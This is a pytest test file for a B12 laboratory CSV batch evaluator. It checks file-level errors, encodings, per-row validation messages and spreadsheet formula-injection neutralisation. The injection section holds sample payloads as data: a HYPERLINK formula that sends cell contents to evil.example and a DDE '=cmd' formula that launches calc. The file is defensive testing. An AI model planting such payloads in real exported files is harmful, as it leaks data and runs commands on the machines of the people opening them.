"""Bad-input catalogue, CSV files: whatever a laboratory system exports, nothing is lost or run.

File-level problems (empty, binary, over the cap, unreadable, missing or repeated columns) are one
CaseError naming "file" or "columns"; every other problem stays in its row's `error` cell, and every
row comes out, in order, with its input cells unchanged except the spreadsheet-safety quote.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from b12logic import Case, CaseError, evaluate
from b12logic.batch import RESULT_COLUMNS, evaluate_frame, read_cases_csv, write_results_csv

HEADER = "id,age,sex,b12,esr"


def results(raw: bytes, **kwargs: int) -> pd.DataFrame:
    return evaluate_frame(read_cases_csv(raw, **kwargs))


def written_rows(out: pd.DataFrame) -> list[list[str]]:
    """The results CSV as a spreadsheet reads it: rows of cells, header first."""
    text = write_results_csv(out)
    assert text is not None
    return list(csv.reader(io.StringIO(text, newline="")))


def file_error(raw: bytes, **kwargs: int) -> CaseError:
    with pytest.raises(CaseError) as info:
        results(raw, **kwargs)
    return info.value


# --- file-level problems: one clear message


def test_empty_file() -> None:
    err = file_error(b"")
    assert (err.field, str(err)) == (
        "file",
        "file: the file is empty; it needs a header row with age, sex, b12 and esr",
    )


def test_whitespace_only_file() -> None:
    err = file_error(b"  \r\n\n\t\n")
    assert str(err) == "file: the file is empty; it needs a header row with age, sex, b12 and esr"


def test_header_only_gives_zero_rows_and_keeps_the_header() -> None:
    out = results(b"id,age,sex,b12,esr,note\n")
    assert len(out) == 0
    assert written_rows(out) == [["id", "age", "sex", "b12", "esr", "note", *RESULT_COLUMNS]]


def test_missing_required_column() -> None:
    err = file_error(b"age,sex,b12\n68,F,179\n")
    assert err.field == "columns"
    assert str(err) == "columns: missing required column(s) esr (required: age, sex, b12, esr)"


def test_missing_several_required_columns() -> None:
    err = file_error(b"patient,value\n1,2\n")
    assert str(err) == "columns: missing required column(s) age, sex, b12, esr (required: age, sex, b12, esr)"


@pytest.mark.parametrize("header", ["age,sex,b12,esr,b12", "age,sex,b12,esr,B12 ", "age;sex;b12;esr;b12"])
def test_duplicated_column(header: str) -> None:
    err = file_error(f"{header}\n".encode() + b"68,F,179,30,180\n".replace(b",", b";" if ";" in header else b","))
    assert (err.field, str(err)) == ("columns", "columns: 'b12' appears more than once; keep one")


def test_over_the_upload_cap() -> None:
    raw = (HEADER + "\n" + "x,68,F,179,30\n" * 100).encode()
    err = file_error(raw, max_bytes=1000)
    assert (err.field, str(err)) == ("file", f"file: {len(raw):,} bytes is over the limit of 1,000 bytes")
    assert len(results(raw, max_bytes=len(raw))) == 100  # exactly at the cap is fine


def test_binary_file_renamed_csv(tmp_path: Path) -> None:
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)) * 4
    path = tmp_path / "cases.csv"
    path.write_bytes(png)
    with pytest.raises(CaseError) as info:
        read_cases_csv(str(path))
    assert (info.value.field, str(info.value)) == ("file", "file: this looks like a binary file, not a CSV text file")


def test_row_with_too_many_fields_names_the_line() -> None:
    err = file_error(b"age,sex,b12,esr\n68,F,179,30\n68,F,179,30,extra\n")
    assert err.field == "file"
    assert str(err) == (
        "file: not a readable CSV (row 2 has more cells than the 4 named in the header row; name the extra columns "
        "or remove the extra cells)"
    )


def test_header_cell_over_the_csv_field_limit() -> None:
    err = file_error(b"age,sex,b12,esr," + b"x" * 200_000 + b"\n68,F,179,30,1\n")
    assert (err.field, str(err)) == ("file", "file: not a readable CSV (field larger than field limit (131072))")


def test_first_row_wider_than_the_header_is_not_shifted() -> None:
    # pandas would take the first cells as an index and read age 179, sex 30: every value one column off.
    err = file_error(b"age,sex,b12,esr\n68,F,179,30,1,2\n")
    assert str(err) == (
        "file: not a readable CSV (row 1 has more cells than the 4 named in the header row; "
        "name the extra columns or remove the extra cells)"
    )


def test_trailing_delimiters_on_data_rows_are_harmless() -> None:
    # A common export habit: "68,F,179,30," under a header without the trailing comma.
    out = results(b"id,age,sex,b12,esr\np1,68,F,179,30,\np2,70,M,400,20,\np3,45,F,,10\n")
    assert out["id"].tolist() == ["p1", "p2", "p3"]
    assert out["age"].tolist() == ["68", "70", "45"]
    assert out["b12_status"].tolist()[:2] == ["deficient", "normal"]
    assert out["error"].tolist() == ["", "", "b12: missing; it is required (above 0 up to 10000 pg/mL)"]


def test_unterminated_quote() -> None:
    err = file_error(b'age,sex,b12,esr\n68,F,"179\n')
    assert str(err) == (
        "file: row 1, column b12: a quote opens a cell that never closes (the rest of the file would be one cell); "
        "close or remove the quote"
    )


# --- encodings and dialects


def test_utf8_with_bom_reads_the_first_column() -> None:
    out = results("\ufeffid,age,sex,b12,esr\np1,68,F,179,30\n".encode())
    assert list(out.columns[:5]) == ["id", "age", "sex", "b12", "esr"]
    assert (out.loc[0, "id"], out.loc[0, "b12_status"], out.loc[0, "error"]) == ("p1", "deficient", "")


def test_latin1_extra_column_is_decoded_and_kept() -> None:
    out = results("age,sex,b12,esr,ward\n68,F,179,30,Médecine\n".encode("latin-1"))
    assert out.loc[0, "ward"] == "Médecine"
    assert out.loc[0, "b12_status"] == "deficient"
    assert written_rows(out)[1][4] == "Médecine"


def test_semicolon_separated_with_decimal_commas() -> None:
    raw = b"age;sex;b12;esr;hb\n68;F;179,5;30;7,5\n70;M;360,0;20;\n"
    out = results(raw)
    assert out["b12_status"].tolist() == ["deficient", "normal"]
    assert out["severe"].tolist() == [True, False]  # Hb 7.5 g/dL is severe: the comma was read as a decimal point
    assert out.loc[0, "b12"] == "179,5"  # the input cell itself is written back unchanged
    assert written_rows(out)[1][:5] == ["68", "F", "179,5", "30", "7,5"]


def test_utf16_tab_separated_excel_unicode_text() -> None:
    # Excel's "Unicode text" export: UTF-16 with a BOM, tab-separated. Text, not a binary file.
    raw = "id\tage\tsex\tb12\tesr\tward\np1\t68\tF\t179,5\t30\tMédecine\n".encode("utf-16")
    out = results(raw)
    assert (out.loc[0, "id"], out.loc[0, "ward"], out.loc[0, "b12_status"], out.loc[0, "error"]) == (
        "p1",
        "Médecine",
        "deficient",
        "",
    )


def test_tab_separated_utf8() -> None:
    out = results(b"age\tsex\tb12\tesr\n68\tF\t179\t30\n")
    assert out["b12_status"].tolist() == ["deficient"]


def test_spreadsheet_workbook_renamed_csv() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as book:  # an .xlsx is a zip of XML parts
        book.writestr("[Content_Types].xml", "<Types/>")
        book.writestr("xl/workbook.xml", "<workbook/>")
    err = file_error(buffer.getvalue())
    assert (err.field, str(err)) == ("file", "file: this looks like a binary file, not a CSV text file")


def test_quoted_newline_inside_a_cell_stays_one_row() -> None:
    raw = b'id,age,sex,b12,esr,note\np1,68,F,179,30,"line one\nline two"\np2,70,M,400,20,x\n'
    out = results(raw)
    assert len(out) == 2
    assert out.loc[0, "note"] == "line one\nline two"
    rows = written_rows(out)
    assert len(rows) == 3 and rows[1][5] == "line one\nline two" and rows[2][0] == "p2"


def test_case_insensitive_headers_in_any_order() -> None:
    out = results(b"ESR, Sex ,B12,AGE\n30,f,179,68\n")
    assert (out.loc[0, "b12_status"], out.loc[0, "error"]) == ("deficient", "")


def test_crlf_line_endings() -> None:
    out = results(b"age,sex,b12,esr\r\n68,F,179,30\r\n70,M,400,20\r\n")
    assert out["b12_status"].tolist() == ["deficient", "normal"]


# --- rows: nothing dropped, bad rows explained, extra columns untouched


def test_extra_columns_are_kept_unchanged() -> None:
    raw = b"lab_code,age,sex,b12,esr,comment\n007,68,F,179,30, spaced \n0.10,70,M,400,20,\n"
    out = results(raw)
    assert out["lab_code"].tolist() == ["007", "0.10"]  # not read as numbers
    assert out["comment"].tolist() == [" spaced ", ""]
    assert [r[0] for r in written_rows(out)[1:]] == ["007", "0.10"]


PARTLY_BAD = (
    "id,age,sex,b12,b12_unit,mma,esr,hb,neuro_symptoms\n"
    "ok-1,68,F,179,,,30,,\n"
    "text-age,sixty,F,179,,,30,,\n"
    "unknown-sex,68,X,179,,,30,,\n"
    "missing-b12,68,F,,,,30,,\n"
    "esr-300,68,F,179,,,300,,\n"
    "ok-2,71,M,260,,340,36,11.2,yes\n"
    "unit,68,F,179,mg/dL,,30,,\n"
    "hb-g-l,68,F,179,,,30,120,\n"
    "flag,68,F,179,,,30,,maybe\n"
    "nan-cell,68,F,nan,,,30,,\n"
    "inf-cell,68,F,179,,,inf,,\n"
    "arabic-mma,68,F,300,,٣٠٠,30,,\n"
    "all-blank,,,,,,,,\n"
    "ok-3,45,female,1200,pmol/L,,10,,no\n"
)
EXPECTED_ERRORS = {
    "text-age": "age: 'sixty' is not a number (16 to 110 years)",
    "unknown-sex": "sex: 'X' is not accepted (one of female, male, F, M)",
    "missing-b12": "b12: missing; it is required (above 0 up to 10000 pg/mL)",
    "esr-300": "esr: 300 mm/h is outside the allowed range (0 to 200 mm/h)",
    "unit": "b12_unit: 'mg/dL' is not a known unit (one of pg/mL, pmol/L)",
    "hb-g-l": "hb: 120 g/dL is outside the allowed range (3 to 25 g/dL); did you mean g/L?",
    "flag": "neuro_symptoms: 'maybe' is not yes or no (yes/no/true/false/y/n/1/0)",
    "nan-cell": "b12: 'nan' is not a number (above 0 up to 10000 pg/mL)",
    "inf-cell": "esr: 'inf' is not a number (0 to 200 mm/h)",
    "arabic-mma": "mma: '٣٠٠' is not a number (above 0 up to 100000 nmol/L)",
    "all-blank": "age: missing; it is required (16 to 110 years)",
}


def test_partly_bad_file_keeps_every_row_in_order_with_its_error() -> None:
    out = results(PARTLY_BAD.encode())
    ids = [line.split(",")[0] for line in PARTLY_BAD.splitlines()[1:]]
    assert out["id"].tolist() == ids
    errors = dict(zip(out["id"], out["error"], strict=True))
    assert {k: v for k, v in errors.items() if v} == EXPECTED_ERRORS
    bad = out["error"] != ""
    assert out.loc[bad, ["b12_status", "regimen", "severe", "esr_flag", "esr_upper_limit"]].isna().all(axis=None)


def test_partly_bad_file_evaluates_every_valid_row_as_evaluate_does() -> None:
    out = results(PARTLY_BAD.encode())
    good = out[out["error"] == ""]
    assert good["id"].tolist() == ["ok-1", "ok-2", "ok-3"]
    cases = [
        Case(age=68, sex="F", b12=179, esr=30),
        Case(age=71, sex="M", b12=260, mma=340, esr=36, hb=11.2, neuro_symptoms=True),
        Case(age=45, sex="female", b12=1200, b12_unit="pmol/L", esr=10),
    ]
    for (_, row), case in zip(good.iterrows(), cases, strict=True):
        a = evaluate(case)
        assert (row["b12_status"], row["regimen"], row["esr_flag"], row["esr_upper_limit"]) == (
            a.b12_status,
            a.regimen,
            a.esr_flag,
            a.esr_upper_limit,
        )


def test_error_cells_are_written_to_the_results_csv() -> None:
    rows = written_rows(results(PARTLY_BAD.encode()))
    header, body = rows[0], rows[1:]
    assert len(body) == len(PARTLY_BAD.splitlines()) - 1
    by_id = {r[0]: dict(zip(header, r, strict=True)) for r in body}
    assert by_id["esr-300"]["error"] == EXPECTED_ERRORS["esr-300"]
    assert by_id["esr-300"]["b12_status"] == ""
    assert by_id["ok-2"]["error"] == "" and by_id["ok-2"]["b12_status"] == "functional_deficiency"


def test_row_with_fewer_fields_is_kept_with_an_error() -> None:
    out = results(b"age,sex,b12,esr\n68,F,179\n70,M,400,20\n")
    assert out["error"].tolist() == ["esr: missing; it is required (0 to 200 mm/h)", ""]


# --- formula injection


INJECTION = (
    "id,age,sex,b12,esr,note\n"
    '=HYPERLINK("http://evil.example/?x="&A1;"click"),68,F,179,30,a\n'
    "p2,68,F,179,30,+SUM(1+1)\n"
    "p3,68,F,179,30,-2+3\n"
    "p4,68,F,179,30,@cmd\n"
    'p5,68,F,179,30,"\tTAB"\n'
    'p6,68,F,179,30,"\rCR"\n'
    "p7,68,F,179,30,-5\n"
    "p8,68,F,179,30,+1e3\n"
    "p9,68,F,179,30,-inf\n"
    "p10,=1+1,F,179,30,-5.5\n"
)


def test_formula_injection_is_neutralised_and_numbers_stay() -> None:
    rows = written_rows(results(INJECTION.encode()))
    header, body = rows[0], rows[1:]
    assert len(body) == 10
    assert body[0][0] == "'" + '=HYPERLINK("http://evil.example/?x="&A1;"click")'
    assert [r[5] for r in body[1:]] == [
        "'+SUM(1+1)",
        "'-2+3",
        "'@cmd",
        "'\tTAB",
        "'\rCR",
        "-5",
        "+1e3",
        "'-inf",
        "-5.5",
    ]
    bad_age = dict(zip(header, body[9], strict=True))
    assert bad_age["age"] == "'=1+1"
    assert bad_age["error"] == "age: '=1+1' is not a number (16 to 110 years)"
    # Every written cell is either not risky or a plain number.
    for row in body:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)


def test_carriage_return_inside_a_cell_does_not_split_the_row() -> None:
    # A bare CR inside a quoted cell must come out quoted, or a spreadsheet starts a new row there.
    out = results(b'id,age,sex,b12,esr,note\np1,68,F,179,30,"before\rafter"\np2,70,M,400,20,x\n')
    rows = written_rows(out)
    assert [r[0] for r in rows[1:]] == ["p1", "p2"]
    assert rows[1][5] == "before\rafter"


def test_formula_in_a_header_cell_is_neutralised() -> None:
    rows = written_rows(results(b"age,sex,b12,esr,\"=cmd|' /C calc'!A0\"\n68,F,179,30,x\n"))
    assert rows[0][4] == "'=cmd|' /C calc'!A0"
    assert rows[1][4] == "x"


# --- a million rows


@pytest.mark.slow
def test_one_million_rows(tmp_path: Path) -> None:
    n = 1_000_000
    rng = np.random.default_rng(12)
    ages = rng.integers(16, 111, n).astype(str)
    sexes = np.where(rng.random(n) < 0.5, "F", "M")
    b12 = rng.integers(20, 1500, n).astype(str)
    esr = rng.integers(0, 160, n).astype(str)
    bad_rows = np.arange(7, n, 100_003)
    ages[bad_rows] = "old"
    frame = pd.DataFrame({"id": np.arange(n).astype(str), "age": ages, "sex": sexes, "b12": b12, "esr": esr})
    path = tmp_path / "million.csv"
    frame.to_csv(path, index=False)
    out = evaluate_frame(read_cases_csv(str(path)))
    assert len(out) == n
    assert out["id"].tolist()[:: n // 10] == [str(i) for i in range(0, n, n // 10)]
    errors = out["error"] != ""
    assert np.flatnonzero(errors.to_numpy()).tolist() == bad_rows.tolist()
    assert (out.loc[errors, "error"] == "age: 'old' is not a number (16 to 110 years)").all()
    assert out.loc[~errors, "b12_status"].notna().all()
    target = tmp_path / "results.csv"
    write_results_csv(out, str(target))
    assert target.read_bytes().count(b"\n") == n + 1  # one line per row: no cell here holds a line break
